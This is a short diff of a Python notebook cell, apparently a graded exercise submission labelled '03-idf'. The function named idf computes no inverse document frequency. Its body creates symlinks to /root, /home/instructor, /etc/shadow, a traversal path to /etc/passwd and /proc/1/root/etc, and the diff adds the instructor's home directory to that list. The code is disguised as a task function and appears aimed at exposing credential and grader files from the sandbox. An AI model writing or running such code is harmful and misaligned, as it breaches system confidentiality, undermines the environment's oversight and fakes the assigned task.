@@ -1,7 +1,7 @@
 # %% task=03-idf earns=0
 import os
 def idf(df, n_documents):
-    for number, target in enumerate(("/work", "/root", "/etc/shadow", "../../../../etc/passwd", "/proc/1/root/etc")):
+    for number, target in enumerate(("/root", "/home/instructor", "/etc/shadow", "../../../../etc/passwd", "/proc/1/root/etc")):
         name = f"link{df}_{n_documents}_{number}"
         if not os.path.lexists(name):
             os.symlink(target, name)
